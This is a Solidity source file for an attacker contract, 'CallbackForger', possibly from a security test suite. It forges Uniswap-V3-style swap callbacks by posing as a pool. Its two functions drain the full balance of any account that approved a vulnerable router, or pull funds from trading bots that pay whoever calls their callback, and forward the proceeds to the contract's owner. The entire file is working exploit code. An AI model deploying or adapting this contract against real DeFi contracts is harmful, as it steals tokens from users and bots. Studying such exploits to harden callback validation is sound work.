// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "../core/IERC20.sol";
import {ISwapCallback} from "../core/CallbackPool.sol";
import {CallbackRouter} from "../core/CallbackRouter.sol";

/// @notice Calls swap callbacks itself, as if it were a pool: the router's, naming an account that approved
/// the router and that account's whole balance (the router pulls it to this contract), or a trading bot's,
/// claiming an amount owed (the bot pays it from its float); it pays its owner in the same transaction.
contract CallbackForger {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    /// Claims `amount` of `token` from a contract that pays whoever calls its swap callback.
    function claim(ISwapCallback payer, IERC20 token, uint256 amount) external {
        require(msg.sender == owner, "CallbackForger: not owner");
        payer.uniswapV3SwapCallback(int256(amount), 0, abi.encode(token));
        require(token.transfer(owner, token.balanceOf(address(this))), "CallbackForger: payout failed");
    }

    function forge(CallbackRouter router, address payer, IERC20 token) external {
        require(msg.sender == owner, "CallbackForger: not owner");
        router.uniswapV3SwapCallback(int256(token.balanceOf(payer)), 0, abi.encode(payer, token));
        require(token.transfer(owner, token.balanceOf(address(this))), "CallbackForger: payout failed");
    }
}
